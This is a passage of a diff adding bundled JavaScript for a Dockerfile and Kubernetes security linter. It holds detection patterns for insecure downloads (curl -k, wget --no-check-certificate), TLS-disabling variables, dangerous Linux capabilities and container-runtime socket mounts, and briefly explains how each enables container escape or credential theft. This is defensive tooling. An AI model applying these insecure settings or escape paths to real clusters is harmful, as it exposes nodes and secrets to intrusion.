+    return hit(fromOf(stage).pos, `${dockerfile_label(stage)} (the final image) has no HEALTHCHECK: add one.`);
+});
+const dockerfileExposeSsh = stageRule({
+    id: 'dockerfile-expose-ssh',
+    title: 'Image exposes SSH port 22',
+    severity: 'low',
+    description: 'Exposing port 22 means an SSH server in the container: another credential to manage and another way in. Containers are entered with `docker exec` / `kubectl exec`, not SSH.',
+    fix: 'Remove 22 from EXPOSE and the SSH server from the image; use `docker exec` or `kubectl exec` to get a shell.',
+    refs: { checkov: ['CKV_DOCKER_1'], kics: ['5907595b-5b6d-4142-b173-dbb0e73fbff8'] },
+}, (stage) => stage.instructions
+    .filter((i) => i.keyword === 'EXPOSE')
+    .flatMap((ins) => words(ins.args)
+    .filter((w) => {
+    const m = /^(\d+)(?:-(\d+))?(?:\/(tcp|udp|sctp))?$/i.exec(w.value);
+    if (!m)
+        return false;
+    const from = Number(m[1]);
+    const to = m[2] === undefined ? from : Number(m[2]);
+    return from <= 22 && 22 <= to;
+})
+    .map((w) => hit(argPos(ins, w.start, w.end), `${dockerfile_label(stage)} exposes port ${w.value} (SSH): remove it.`))));
+/** The `sudo` word when a command runs through sudo (not `apt-get install sudo`). */
+function sudoWord(seg) {
+    for (const w of seg.words) {
+        if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(w.value) || w.value === 'env' || w.value === 'exec')
+            continue;
+        return w.value === 'sudo' ? w : undefined;
+    }
+    return undefined;
+}
+const dockerfileSudo = stageRule({
+    id: 'dockerfile-sudo',
+    title: 'RUN uses sudo',
+    severity: 'medium',
+    description: 'sudo in a build step means the image carries sudo and a user allowed to use it, so dropping privileges with USER can be undone at run time; it also hides which steps need root.',
+    fix: 'Run the privileged steps before switching user (or switch with `USER root` … `USER app` around them) and remove sudo from the image.',
+    refs: { checkov: ['CKV2_DOCKER_1'], kics: ['8ada6e80-0ade-439e-b176-0b28f6bce35a'] },
+}, (stage) => shellHits(stage, (segs) => segs.flatMap((s) => {
+    const w = sudoWord(s);
+    return w
+        ? [
+            {
+                start: s.start + w.start,
+                end: s.start + w.end,
+                message: `${dockerfile_label(stage)} runs sudo: run the step as root before USER instead.`,
+            },
+        ]
+        : [];
+})));
+/** Settings that switch off TLS certificate checks, as environment variables. */
+const TLS_ENV = [
+    { name: 'NODE_TLS_REJECT_UNAUTHORIZED', off: (v) => v.trim() === '0' },
+    { name: 'PYTHONHTTPSVERIFY', off: (v) => v.trim() === '0' },
+    { name: 'GIT_SSL_NO_VERIFY', off: () => true },
+    { name: 'NPM_CONFIG_STRICT_SSL', off: (v) => v.trim().toLowerCase() === 'false' },
+    { name: 'PIP_TRUSTED_HOST', off: (v) => v.trim() !== '' },
+];
+function tlsOffInSegment(seg) {
+    const ws = seg.words.map((w) => w.value);
+    switch (seg.program) {
+        case 'curl':
+            if (ws.some((w) => w === '--insecure' || /^-[a-zA-Z]*k[a-zA-Z]*$/.test(w)))
+                return 'curl --insecure';
+            break;
+        case 'wget':
+            if (ws.includes('--no-check-certificate'))
+                return 'wget --no-check-certificate';
+            break;
+        case 'pip':
+        case 'pip3':
+        case 'python':
+        case 'python3':
+            if (ws.some((w) => w === '--trusted-host' || w.startsWith('--trusted-host=')))
+                return 'pip --trusted-host';
+            break;
+        case 'git': {
+            const joined = ws.join(' ').toLowerCase();
+            if (/http\.sslverify[= ]+(false|0|no|off)\b/.test(joined))
+                return 'git http.sslVerify false';
+            break;
+        }
+        case 'npm':
+        case 'yarn':
+            if (/strict-ssl[= ]+false\b/.test(ws.join(' ').toLowerCase()))
+                return `${seg.program} strict-ssl false`;
+            break;
+    }
+    for (const w of ws) {
+        const eq = w.indexOf('=');
+        if (eq === -1)
+            continue;
+        const setting = TLS_ENV.find((t) => t.name === w.slice(0, eq));
+        if (setting?.off(w.slice(eq + 1)))
+            return w;
+    }
+    return undefined;
+}
+const dockerfileTlsVerificationDisabled = defineRule({
+    id: 'dockerfile-tls-verification-disabled',
+    title: 'TLS certificate verification switched off',
+    severity: 'high',
+    description: 'Downloading with certificate checks off (`curl -k`, `wget --no-check-certificate`, `pip --trusted-host`, `GIT_SSL_NO_VERIFY`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, …) lets anyone on the network path replace what the build installs; set in ENV, it also weakens every connection the running container makes.',
+    fix: 'Remove the option or variable. If a private CA is the reason, add its certificate to the image trust store (`COPY ca.crt /usr/local/share/ca-certificates/` and `update-ca-certificates`) or point the tool at it (`--cacert`, `PIP_CERT`, `NODE_EXTRA_CA_CERTS`).',
+    refs: {
+        checkov: [
+            'CKV2_DOCKER_2',
+            'CKV2_DOCKER_3',
+            'CKV2_DOCKER_4',
+            'CKV2_DOCKER_5',
+            'CKV2_DOCKER_6',
+            'CKV2_DOCKER_14',
+        ],
+    },
+    formats: ['dockerfile'],
+    check(doc) {
+        const model = doc.dockerfile;
+        if (!model)
+            return [];
+        const hits = [];
+        for (const { ins, resource } of variables(doc)) {
+            for (const p of properties(ins)) {
+                const setting = TLS_ENV.find((t) => t.name === p.name);
+                if (setting && p.value !== undefined && !p.value.includes('$') && setting.off(p.value)) {
+                    hits.push({
+                        pos: argPos(ins, p.start, p.end),
+                        message: `${ins.keyword} ${p.name}=${p.value} switches off TLS certificate checks: remove it and trust the CA instead.`,
+                        ...(resource ? { resource } : {}),
+                    });
+                }
+            }
+        }
+        model.stages.forEach((stage, i) => {
+            const resource = doc.resources[i];
+            for (const h of shellHits(stage, (segs) => segs.flatMap((seg) => {
+                const what = tlsOffInSegment(seg);
+                return what
+                    ? [
+                        {
+                            start: seg.start,
+                            end: seg.start + seg.text.length,
+                            message: `${dockerfile_label(stage)} runs ${what}, which skips TLS certificate checks: remove it and trust the CA instead.`,
+                        },
+                    ]
+                    : [];
+            }))) {
+                hits.push({ ...h, ...(resource ? { resource } : {}) });
+            }
+        });
+        return hits;
+    },
+});
+/** A mode that gives everyone write access: `777`, `0666`, `o+w`, `a+rwx` (sticky-bit dirs such as 1777 are left). */
+function worldWritable(mode) {
+    const numeric = /^0*([0-7]{3,4})$/.exec(mode);
+    if (numeric) {
+        const digits = numeric[1];
+        if (digits.length === 4 && (Number(digits[0]) & 1) === 1)
+            return false;
+        return (Number(digits[digits.length - 1]) & 2) === 2;
+    }
+    return mode.split(',').some((clause) => /^[ugo]*[oa][ugo]*[+=][rwxXst]*w/.test(clause));
+}
+const dockerfileWorldWritable = stageRule({
+    id: 'dockerfile-world-writable',
+    title: 'Files made world-writable (chmod 777)',
+    severity: 'medium',
+    description: 'A world-writable file or directory in the image can be changed by any user in the container: a compromised unprivileged process can replace binaries, scripts or configuration that a more privileged one later runs.',
+    fix: 'Give ownership to the user that needs to write (`COPY --chown=app:app`, `chown app:app`) and use modes such as 755 / 644 (or 1777 for a shared temporary directory).',
+}, (stage) => {
+    const hits = shellHits(stage, (segs) => segs
+        .filter((s) => s.program === 'chmod')
+        .flatMap((s) => s.words
+        .filter((w) => worldWritable(w.value))
+        .map((w) => ({
+        start: s.start,
+        end: s.start + w.end,
+        message: `${dockerfile_label(stage)} runs chmod ${w.value}: make it owned by the user that writes, not world-writable.`,
+    }))));
+    for (const ins of stage.instructions) {
+        if (ins.keyword !== 'COPY' && ins.keyword !== 'ADD')
+            continue;
+        const mode = flags(words(ins.args)).flags.get('chmod');
+        if (mode !== undefined && worldWritable(mode)) {
+            hits.push(hit(ins.pos, `${dockerfile_label(stage)} copies files with --chmod=${mode}: use --chown and a narrower mode.`));
+        }
+    }
+    return hits;
+});
+const dockerfileAptInstallRecommends = stageRule({
+    id: 'dockerfile-apt-install-recommends',
+    title: 'apt-get install pulls in recommended packages',
+    severity: 'low',
+    description: 'Without `--no-install-recommends`, apt installs every recommended package as well: more software in the image means more vulnerabilities to patch and more tools for an attacker.',
+    fix: 'Install with `apt-get install -y --no-install-recommends <packages>` (and clean `/var/lib/apt/lists/*` in the same RUN).',
+    refs: { kics: ['7384dfb2-fcd1-4fbf-91cd-6c44c318c33c'] },
+}, (stage) => shellHits(stage, (segs) => segs
+    .filter((s) => (s.program === 'apt-get' || s.program === 'apt') && s.words.some((w) => w.value === 'install'))
+    .filter((s) => !s.words.some((w) => w.value === '--no-install-recommends' || /^APT::Install-Recommends=(false|0)$/i.test(w.value)))
+    .map((s) => ({
+    start: s.start,
+    end: s.start + s.text.length,
+    message: `${dockerfile_label(stage)} runs ${s.program} install without --no-install-recommends: add it.`,
+}))));
+const DOCKERFILE_RULES = [
+    dockerfileBaseImageLatest,
+    dockerfileBaseImageUntagged,
+    dockerfileRunsAsRoot,
+    dockerfileAddRemoteUrl,
+    dockerfileAddInsteadOfCopy,
+    dockerfilePipeToShell,
+    dockerfileSecretInEnvArg,
+    dockerfileSecretBuildArg,
+    dockerfileNoHealthcheck,
+    dockerfileExposeSsh,
+    dockerfileSudo,
+    dockerfileTlsVerificationDisabled,
+    dockerfileWorldWritable,
+    dockerfileAptInstallRecommends,
+];
+
+;// CONCATENATED MODULE: ./src/policy-as-code/parse/kubernetes.ts
+/**
+ * Kubernetes manifests: any YAML (or JSON) document with a string `apiVersion` and `kind`, one
+ * `Doc` per document of a multi-document file. The object is the resource (type = kind, name =
+ * `metadata.name`); the items of a `List` are resources too. `podSpecs` and `containers` find the
+ * pod template of every workload kind so rules read containers the same way everywhere.
+ */
+
+
+function str(node) {
+    return isScalar(node) && typeof node.value === 'string' ? node.value : undefined;
+}
+/** True when a parsed document is a Kubernetes object (or list of objects). */
+function isKubernetesObject(root) {
+    return isMap(root) && str(get(root, 'apiVersion')) !== undefined && str(get(root, 'kind')) !== undefined;
+}
+function resourceOf(object) {
+    const name = str(get(object, 'metadata', 'name')) ?? str(get(object, 'metadata', 'generateName')) ?? '(unnamed)';
+    return { type: str(get(object, 'kind')), name, pos: object.pos, body: object, node: object };
+}
+function kubernetesDoc(file, root, text, json, index) {
+    const resources = [resourceOf(root)];
+    const kind = str(get(root, 'kind'));
+    if (kind === 'List' || kind.endsWith('List')) {
+        const list = get(root, 'items');
+        if (isList(list))
+            for (const item of list.items)
+                if (isKubernetesObject(item))
+                    resources.push(resourceOf(item));
+    }
+    return {
+        file,
+        format: 'kubernetes',
+        root,
+        resources,
+        params: new Map(),
+        comments: json ? [] : scanComments(text, 'hash'),
+        index,
+    };
+}
+/** Where each workload kind keeps its pod spec. */
+const POD_SPEC_PATHS = {
+    Pod: ['spec'],
+    PodTemplate: ['template', 'spec'],
+    Deployment: ['spec', 'template', 'spec'],
+    StatefulSet: ['spec', 'template', 'spec'],
+    DaemonSet: ['spec', 'template', 'spec'],
+    ReplicaSet: ['spec', 'template', 'spec'],
+    ReplicationController: ['spec', 'template', 'spec'],
+    Job: ['spec', 'template', 'spec'],
+    CronJob: ['spec', 'jobTemplate', 'spec', 'template', 'spec'],
+};
+const WORKLOAD_KINDS = Object.keys(POD_SPEC_PATHS);
+/** The pod spec of a workload (none for other kinds, or when the template is missing). */
+function podSpec(resource) {
+    const path = POD_SPEC_PATHS[resource.type];
+    if (!path)
+        return undefined;
+    let node = resource.body;
+    let pos = resource.pos;
+    for (const key of path) {
+        const e = entry(node, key);
+        if (!e)
+            return undefined;
+        node = e.value;
+        pos = e.keyPos;
+    }
+    return isMap(node) ? { spec: node, pos, resource } : undefined;
+}
+const FIELDS = ['containers', 'initContainers', 'ephemeralContainers'];
+/** Every container of a workload's pod spec, init and ephemeral ones included. */
+function containers(resource, fields = FIELDS) {
+    const pod = podSpec(resource);
+    if (!pod)
+        return [];
+    const out = [];
+    for (const field of fields) {
+        const list = get(pod.spec, field);
+        if (!isList(list))
+            continue;
+        list.items.forEach((item, i) => {
+            if (!isMap(item))
+                return;
+            out.push({
+                container: item,
+                name: str(get(item, 'name')) ?? `${field}[${i}]`,
+                field,
+                pos: item.pos,
+                pod,
+            });
+        });
+    }
+    return out;
+}
+/** A value Kubernetes would not see as written: a Helm/Go template placeholder. */
+function isTemplated(value) {
+    return value.includes('{{');
+}
+
+;// CONCATENATED MODULE: ./src/policy-as-code/rules/kubernetes.ts
+/**
+ * Kubernetes rules over the pod spec of every workload kind (Pod, Deployment, StatefulSet,
+ * DaemonSet, ReplicaSet, ReplicationController, Job, CronJob, PodTemplate) and its containers,
+ * init and ephemeral ones included. A setting that is present and wrong is reported where it is
+ * written; a missing one at the container (or at the pod's `spec:`).
+ */
+
+
+
+
+
+const FIELD_LABEL = {
+    containers: 'Container',
+    initContainers: 'Init container',
+    ephemeralContainers: 'Ephemeral container',
+};
+function kubernetes_label(c) {
+    return `${FIELD_LABEL[c.field]} ${c.name} of ${c.pod.resource.type} ${c.pod.resource.name}`;
+}
+function podLabel(pod) {
+    return `${pod.resource.type} ${pod.resource.name}`;
+}
+/** A rule checked on each container of each workload. */
+function containerRule(meta, check, fields) {
+    return resourceRule(meta, {
+        kubernetes: {
+            types: WORKLOAD_KINDS,
+            check(res, doc) {
+                return containers(res, fields).flatMap((c) => {
+                    const r = check(c, doc);
+                    return r === undefined ? [] : Array.isArray(r) ? r : [r];
+                });
+            },
+        },
+    });
+}
+/** A rule checked on the pod spec of each workload. */
+function podRule(meta, check) {
+    return resourceRule(meta, {
+        kubernetes: {
+            types: WORKLOAD_KINDS,
+            check(res, doc) {
+                const pod = podSpec(res);
+                return pod ? check(pod, doc) : undefined;
+            },
+        },
+    });
+}
+function securityContext(c, key) {
+    return get(c.container, 'securityContext', key);
+}
+/** A pod-level `host*: true` setting. */
+function hostNamespaceRule(meta, key, what) {
+    return podRule(meta, (pod) => {
+        const value = get(pod.spec, key);
+        if (toBool(value) === true) {
+            return hit(value.pos, `${podLabel(pod)} sets ${key}: true and shares the host's ${what}: remove it.`);
+        }
+    });
+}
+const k8sPrivilegedContainer = containerRule({
+    id: 'k8s-privileged-container',
+    title: 'Container runs privileged',
+    severity: 'critical',
+    description: 'A privileged container has every capability and access to all host devices: it can load kernel modules, mount the host disk and escape to the node, so a compromise of the container is a compromise of the node and everything scheduled on it.',
+    fix: 'Remove `securityContext.privileged: true` (or set it to false) and grant only the specific capabilities the workload needs.',
+    refs: { checkov: ['CKV_K8S_16'], kics: ['dd29336b-fe57-445b-a26e-e6aa867ae609'] },
+}, (c) => {
+    const value = securityContext(c, 'privileged');
+    if (toBool(value) === true)
+        return hit(value.pos, `${kubernetes_label(c)} is privileged: remove privileged: true.`);
+});
+const k8sHostNetwork = hostNamespaceRule({
+    id: 'k8s-host-network',
+    title: "Pod shares the host's network namespace",
+    severity: 'high',
+    description: 'With hostNetwork the pod sees every interface of the node: it can sniff traffic, reach services bound to localhost on the node (kubelet, metadata endpoints) and bypass NetworkPolicies.',
+    fix: 'Remove `hostNetwork: true`; expose the workload through a Service instead.',
+    refs: { checkov: ['CKV_K8S_19'], kics: ['6b6bdfb3-c3ae-44cb-88e4-7405c1ba2c8a'] },
+}, 'hostNetwork', 'network namespace');
+const k8sHostPid = hostNamespaceRule({
+    id: 'k8s-host-pid',
+    title: "Pod shares the host's process namespace",
+    severity: 'high',
+    description: 'With hostPID the pod sees every process of the node and, as root, can signal them, read their environment (secrets included) and enter their namespaces.',
+    fix: 'Remove `hostPID: true`.',
+    refs: { checkov: ['CKV_K8S_17'], kics: ['302736f4-b16c-41b8-befe-c0baffa0bd9d'] },
+}, 'hostPID', 'process namespace');
+const k8sHostIpc = hostNamespaceRule({
+    id: 'k8s-host-ipc',
+    title: "Pod shares the host's IPC namespace",
+    severity: 'high',
+    description: 'With hostIPC the pod can read and write the shared memory and message queues of every process on the node.',
+    fix: 'Remove `hostIPC: true`.',
+    refs: { checkov: ['CKV_K8S_18'], kics: ['cd290efd-6c82-4e9d-a698-be12ae31d536'] },
+}, 'hostIPC', 'IPC namespace');
+const k8sPrivilegeEscalation = containerRule({
+    id: 'k8s-privilege-escalation-allowed',
+    title: 'Container allows privilege escalation',
+    severity: 'medium',
+    description: 'Unless allowPrivilegeEscalation is false, a process can gain more privileges than its parent through setuid binaries or file capabilities, turning a foothold as an unprivileged user into root in the container.',
+    fix: 'Set `securityContext.allowPrivilegeEscalation: false` on every container.',
+    refs: { checkov: ['CKV_K8S_20'], kics: ['5572cc5e-1e4c-4113-92a6-7a8a3bd25e6d'] },
+}, (c) => {
+    const value = securityContext(c, 'allowPrivilegeEscalation');
+    if (toBool(value) === false)
+        return;
+    return hit(value?.pos ?? c.pos, `${kubernetes_label(c)} allows privilege escalation: set securityContext.allowPrivilegeEscalation: false.`);
+});
+/** A Windows pod: runAsNonRoot and runAsUser do not apply. */
+function kubernetes_isWindows(pod) {
+    return (toStr(get(pod.spec, 'os', 'name'))?.toLowerCase() === 'windows' ||
+        get(pod.spec, 'securityContext', 'windowsOptions') !== undefined);
+}
+const k8sRunsAsRoot = containerRule({
+    id: 'k8s-runs-as-root',
+    title: 'Container may run as root',
+    severity: 'medium',
+    description: 'A container with runAsUser 0, or without runAsNonRoot: true (at pod or container level), runs as root whenever its image says so. Root in the container owns every file of the image and is one kernel or runtime bug away from root on the node.',
+    fix: 'Set `securityContext.runAsNonRoot: true` (pod or container level) and a non-zero `runAsUser`, e.g. 10001; build the image with a non-root USER.',
+    refs: { checkov: ['CKV_K8S_23'], kics: ['cf34805e-3872-4c08-bf92-6ff7bb0cfadb'] },
+}, (c) => {
+    if (kubernetes_isWindows(c.pod))
+        return;
+    const user = securityContext(c, 'runAsUser') ?? get(c.pod.spec, 'securityContext', 'runAsUser');
+    const uid = toNumber(user);
+    if (uid === 0)
+        return hit(user.pos, `${kubernetes_label(c)} runs as UID 0: set a non-zero runAsUser and runAsNonRoot: true.`);
+    if (uid !== undefined)
+        return;
+    const nonRoot = securityContext(c, 'runAsNonRoot') ?? get(c.pod.spec, 'securityContext', 'runAsNonRoot');
+    if (toBool(nonRoot) === true)
+        return;
+    return hit(nonRoot?.pos ?? c.pos, `${kubernetes_label(c)} may run as root: set securityContext.runAsNonRoot: true and a non-zero runAsUser.`);
+});
+const k8sImageTagNotFixed = containerRule({
+    id: 'k8s-image-tag-not-fixed',
+    title: 'Container image uses latest or no tag',
+    severity: 'medium',
+    description: 'An image without a tag, or tagged latest, changes whenever the publisher pushes: each node may run a different build, a rollback does not roll back, and a bad or malicious push is deployed on the next pod restart.',
+    fix: 'Reference a version tag and, better, a digest: `image: registry/app:1.4.2@sha256:…`.',
+    refs: { checkov: ['CKV_K8S_14'] },
+}, (c) => {
+    const node = get(c.container, 'image');
+    const image = toStr(node);
+    if (image === undefined || image === '' || isTemplated(image) || image.includes('$'))
+        return;
+    const ref = imageRef(image);
+    if (ref.digest !== undefined)
+        return;
+    if (ref.tag === undefined)
+        return hit(node.pos, `${kubernetes_label(c)} uses image ${image} without a tag: pin a version tag and digest.`);
+    if (ref.tag.toLowerCase() === 'latest') {
+        return hit(node.pos, `${kubernetes_label(c)} uses image ${image}: pin a version tag and digest instead of latest.`);
+    }
+});
+const k8sNoResourceLimits = containerRule({
+    id: 'k8s-no-resource-limits',
+    title: 'Container has no CPU or memory limit',
+    severity: 'medium',
+    description: 'Without limits one container can take all the CPU and memory of its node, starving its neighbours (a noisy neighbour or a denial of service) and getting other pods evicted.',
+    fix: 'Set `resources.limits.cpu` and `resources.limits.memory` on every container (and a LimitRange in the namespace as a default).',
+    refs: {
+        checkov: ['CKV_K8S_11', 'CKV_K8S_13'],
+        kics: ['4ac0e2b7-d2d2-4af7-8799-e8de6721ccda', 'b14d1bc4-a208-45db-92f0-e21f8e2588e9'],
+    },
+}, (c) => {
+    const limits = get(c.container, 'resources', 'limits');
+    const missing = ['cpu', 'memory'].filter((k) => get(limits, k) === undefined);
+    if (missing.length === 0)
+        return;
+    const at = entry(get(c.container, 'resources'), 'limits')?.keyPos ??
+        entry(c.container, 'resources')?.keyPos ??
+        c.pos;
+    return hit(at, `${kubernetes_label(c)} has no ${missing.join(' or ')} limit: set resources.limits.${missing.join(' and ')}.`);
+}, ['containers', 'initContainers']);
+/** Capabilities that give a container control over the node or its network. */
+const DANGEROUS_CAPABILITIES = new Set([
+    'ALL',
+    'SYS_ADMIN',
+    'NET_ADMIN',
+    'SYS_PTRACE',
+    'SYS_MODULE',
+    'SYS_RAWIO',
+    'SYS_BOOT',
+    'DAC_READ_SEARCH',
+    'BPF',
+    'PERFMON',
+    'MAC_ADMIN',
+    'MAC_OVERRIDE',
+]);
+function capabilityName(node) {
+    return toStr(node)?.toUpperCase().replace(/^CAP_/, '');
+}
+const k8sDangerousCapabilities = containerRule({
+    id: 'k8s-dangerous-capabilities',
+    title: 'Container adds a dangerous Linux capability',
+    severity: 'high',
+    description: 'Capabilities such as SYS_ADMIN, NET_ADMIN, SYS_PTRACE, SYS_MODULE or ALL give root-equivalent control over the kernel, the network stack or other processes; with them a container escape is a matter of a few commands.',
+    fix: 'Remove the capability from `securityContext.capabilities.add`; drop ALL and add back only narrow ones the workload needs (such as NET_BIND_SERVICE).',
+    refs: {
+        checkov: ['CKV_K8S_25', 'CKV_K8S_39'],
+        kics: ['19ebaa28-fc86-4a58-bcfa-015c9e22fe40', '235236ee-ad78-4065-bd29-61b061f28ce0'],
+    },
+}, (c) => {
+    const add = get(c.container, 'securityContext', 'capabilities', 'add');
+    if (!isList(add))
+        return;
+    return add.items
+        .filter((n) => DANGEROUS_CAPABILITIES.has(capabilityName(n) ?? ''))
+        .map((n) => hit(n.pos, `${kubernetes_label(c)} adds capability ${toStr(n)}: remove it.`));
+});
+/** Host paths that hand the container runtime (and so the node) to the pod. */
+const RUNTIME_SOCKETS = new Set([
+    '/var/run/docker.sock',
+    '/run/docker.sock',
+    '/var/run/containerd/containerd.sock',
+    '/run/containerd/containerd.sock',
+    '/var/run/crio/crio.sock',
+    '/run/crio/crio.sock',
+    '/var/run/cri-dockerd.sock',
+    '/run/cri-dockerd.sock',
+    '/var/run',
+    '/run',
+    '/var/run/docker',
+    '/var/run/containerd',
+    '/run/containerd',
+    '/var/lib/docker',
+]);
+function hostPaths(pod) {
+    const volumes = get(pod.spec, 'volumes');
+    if (!isList(volumes))
+        return [];
+    const out = [];
+    for (const v of volumes.items) {
+        const e = entry(v, 'hostPath');
+        if (!e)
+            continue;
+        const path = get(e.value, 'path');
+        out.push({
+            key: e.keyPos,
+            ...(path ? { path } : {}),
+            value: toStr(path),
+            name: toStr(get(v, 'name')) ?? '(unnamed)',
+        });
+    }
+    return out;
+}
+function isRuntimeSocket(path) {
+    if (path === undefined)
+        return false;
+    const normal = path.replace(/\/+$/, '') || '/';
+    return RUNTIME_SOCKETS.has(normal);
+}
+const k8sContainerRuntimeSocket = podRule({
+    id: 'k8s-container-runtime-socket',
+    title: 'Container runtime socket mounted into the pod',
+    severity: 'critical',
+    description: 'Whoever can talk to the Docker, containerd or CRI-O socket can start a privileged container with the host filesystem mounted: mounting it (or the directory holding it) gives the pod root on the node.',
+    fix: 'Remove the hostPath volume for the runtime socket. Build images with a daemonless builder (BuildKit rootless, kaniko, buildah) and read runtime data through the Kubernetes API.',
+    refs: { checkov: ['CKV_K8S_27'], kics: ['a6f34658-fdfb-4154-9536-56d516f65828'] },
+}, (pod) => hostPaths(pod)
+    .filter((h) => isRuntimeSocket(h.value))
+    .map((h) => hit(h.path?.pos ?? h.key, `${podLabel(pod)} mounts ${h.value} from the host (volume ${h.name}): remove it.`)));
+const k8sHostPathVolume = podRule({
+    id: 'k8s-host-path-volume',
+    title: 'Pod mounts a directory of the node (hostPath)',
+    severity: 'high',
+    description: "A hostPath volume exposes the node's filesystem to the pod: it can read other pods' data and credentials and, when writable, plant files the node or other pods execute. The Pod Security Standards' baseline profile forbids it.",
+    fix: 'Use an emptyDir, a ConfigMap/Secret or a PersistentVolumeClaim instead; if a node agent truly needs a host path, mount it `readOnly: true` and run it in a dedicated, restricted namespace.',
+    refs: { kics: ['5308a7a8-06f8-45ac-bf10-791fe21de46e'] },
+}, (pod) => hostPaths(pod)
+    .filter((h) => !isRuntimeSocket(h.value))
+    .map((h) => hit(h.key, `${podLabel(pod)} mounts host path ${h.value ?? '(unknown)'} (volume ${h.name}): use another volume type.`)));
+const k8sRootFilesystemWritable = containerRule({
+    id: 'k8s-root-filesystem-writable',
+    title: "Container's root filesystem is writable",
+    severity: 'low',
+    description: 'A writable root filesystem lets an intruder change binaries and configuration of the running container and persist tools there; a read-only one limits writes to the volumes you mount.',
+    fix: 'Set `securityContext.readOnlyRootFilesystem: true` and mount an emptyDir where the application must write (such as /tmp).',
+    refs: { checkov: ['CKV_K8S_22'], kics: ['a9c2f49d-0671-4fc9-9ece-f4e261e128d0'] },
+}, (c) => {
+    const value = securityContext(c, 'readOnlyRootFilesystem');
+    if (toBool(value) === true)
+        return;
+    return hit(value?.pos ?? c.pos, `${kubernetes_label(c)} has a writable root filesystem: set readOnlyRootFilesystem: true.`);
+});
+const k8sCapabilitiesNotDropped = containerRule({
+    id: 'k8s-capabilities-not-dropped',
+    title: 'Container keeps the default Linux capabilities',
+    severity: 'low',
+    description: "Containers start with a default set of capabilities (NET_RAW, CHOWN, SETUID, …) that most applications never use; NET_RAW alone allows ARP and DNS spoofing inside the node's network.",
+    fix: 'Set `securityContext.capabilities.drop: [ALL]` and add back only what is needed.',
+    refs: { checkov: ['CKV_K8S_28', 'CKV_K8S_37'], kics: ['268ca686-7fb7-4ae9-b129-955a2a89064e'] },
+}, (c) => {
+    const drop = get(c.container, 'securityContext', 'capabilities', 'drop');
+    if (isList(drop) && drop.items.some((n) => capabilityName(n) === 'ALL'))
+        return;
+    return hit(drop?.pos ?? c.pos, `${kubernetes_label(c)} does not drop ALL capabilities: set capabilities.drop: [ALL].`);
+});
+const k8sServiceAccountToken = podRule({
+    id: 'k8s-service-account-token-mounted',
+    title: 'Service account token mounted automatically',
+    severity: 'low',
+    description: 'Unless automountServiceAccountToken is false, every container gets an API token; an intruder in the pod can use it against the Kubernetes API with whatever RBAC grants the service account.',
+    fix: 'Set `automountServiceAccountToken: false` in the pod spec (or on the ServiceAccount) and mount a projected token only in pods that call the API.',
+    refs: { checkov: ['CKV_K8S_38'], kics: ['48471392-d4d0-47c0-b135-cdec95eb3eef'] },
+}, (pod) => {
+    const value = get(pod.spec, 'automountServiceAccountToken');
+    if (toBool(value) === false)
+        return;
+    return hit(value?.pos ?? pod.pos, `${podLabel(pod)} mounts a service account token: set automountServiceAccountToken: false.`);
+});
+const k8sSecretInEnv = containerRule({
+    id: 'k8s-secret-in-env',
+    title: 'Secret written as a literal environment value',
+    severity: 'high',
+    description: 'A password, token or key written as `env[].value` lives in the manifest, in Git history, and in the object any reader of the Deployment can see; it cannot be rotated without a commit.',
+    fix: 'Store it in a Secret (or an external secrets manager) and reference it with `valueFrom.secretKeyRef`, or mount it as a file.',
+}, (c) => {
+    const env = get(c.container, 'env');
+    if (!isList(env))
+        return;
+    return env.items.flatMap((item) => {
+        const name = toStr(get(item, 'name'));
+        const value = get(item, 'value');
+        if (name === undefined || !isSecretName(name) || !isLiteralSecret(toStr(value)))
+            return [];
+        return [hit(value.pos, `${kubernetes_label(c)} sets ${name} to a literal secret: use valueFrom.secretKeyRef.`)];
+    });
+});
+/** Built-in API groups: objects of CRDs (Backstage, Argo, …) use namespaces their own way. */
+function isBuiltinApi(apiVersion) {
+    if (apiVersion === undefined)
+        return false;
+    const group = apiVersion.includes('/') ? apiVersion.slice(0, apiVersion.lastIndexOf('/')) : '';
+    return (group === '' ||
+        group.endsWith('k8s.io') ||
+        ['apps', 'batch', 'policy', 'autoscaling', 'extensions'].includes(group));
+}
+const k8sDefaultNamespace = resourceRule({
+    id: 'k8s-default-namespace',
+    title: 'Object placed in the default namespace',
+    severity: 'low',
+    description: 'The default namespace is shared by everything deployed without thought: RBAC, NetworkPolicies, quotas and Pod Security admission cannot separate this workload from the rest. (A manifest without a namespace is left to the deploy tool, e.g. kustomize or `kubectl -n`, and is not reported.)',
+    fix: 'Deploy into a dedicated namespace: set `metadata.namespace` to it (or let kustomize / the deploy command set it) instead of `default`.',
+    refs: { checkov: ['CKV_K8S_21'], kics: ['611ab018-c4aa-4ba2-b0f6-a448337509a6'] },
+}, {
+    kubernetes: {
+        types: [
+            ...WORKLOAD_KINDS,
+            'Service',
+            'ConfigMap',
+            'Secret',
+            'ServiceAccount',
+            'Role',
+            'RoleBinding',
+            'Ingress',
+            'NetworkPolicy',
+            'PersistentVolumeClaim',
+        ],
+        check(res) {
+            if (!isBuiltinApi(toStr(get(res.body, 'apiVersion'))))
+                return;
+            const ns = get(res.body, 'metadata', 'namespace');
+            if (toStr(ns) === 'default') {
+                return hit(ns.pos, `${res.type} ${res.name} is in the default namespace: use a dedicated namespace.`);
+            }
+        },
+    },
+});
+const KUBERNETES_RULES = [
+    k8sPrivilegedContainer,
+    k8sHostNetwork,
+    k8sHostPid,
+    k8sHostIpc,
+    k8sPrivilegeEscalation,
+    k8sRunsAsRoot,
+    k8sImageTagNotFixed,
+    k8sNoResourceLimits,
+    k8sDangerousCapabilities,
+    k8sContainerRuntimeSocket,
+    k8sHostPathVolume,
+    k8sRootFilesystemWritable,
+    k8sCapabilitiesNotDropped,
+    k8sServiceAccountToken,
+    k8sSecretInEnv,
+    k8sDefaultNamespace,
+];
+
+;// CONCATENATED MODULE: ./src/policy-as-code/parse/workflow.ts
+/**
+ * GitHub Actions: workflows (`.github/workflows/*.yml`, format `workflow`, one resource per job)
+ * and action metadata (`action.yml` anywhere, format `action`, one resource, only when it has
+ * `runs`). Every string holding a `${{ … }}` expression keeps its source text, so a rule can
+ * point at the exact line of an expression inside a multi-line `run: |` block.
+ */
+
+
+
+/** `workflow` or `action` by the file's path alone; undefined for other files. */
+function workflowFormatOf(file) {
+    const f = file.replace(/\\/g, '/');
+    if (/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(f))
+        return 'workflow';
+    if (/^action\.ya?ml$/i.test(external_node_path_namespaceObject.posix.basename(f)))
